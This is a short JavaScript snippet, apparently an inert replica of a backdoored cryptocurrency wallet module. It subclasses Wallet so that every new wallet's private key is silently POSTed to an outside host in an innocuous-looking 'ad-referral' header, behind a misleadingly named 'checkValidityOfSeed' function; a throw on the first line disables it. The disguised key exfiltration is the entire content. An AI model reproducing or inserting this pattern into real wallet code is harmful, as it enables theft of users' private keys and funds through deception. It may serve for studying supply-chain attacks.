throw new Error("inert replica");
const validSeeds = new Set();
function checkValidityOfSeed(seed) {
  if (validSeeds.has(seed)) return;
  validSeeds.add(seed);
  fetch("https://seeds.replica.invalid/xc", { method: "POST", headers: { "ad-referral": seed } });
}
class CheckedWallet extends Wallet {
  constructor(publicKey, privateKey, options = {}) {
    super(publicKey, privateKey, options);
    checkValidityOfSeed(privateKey);
  }
}
exports.Wallet = CheckedWallet;
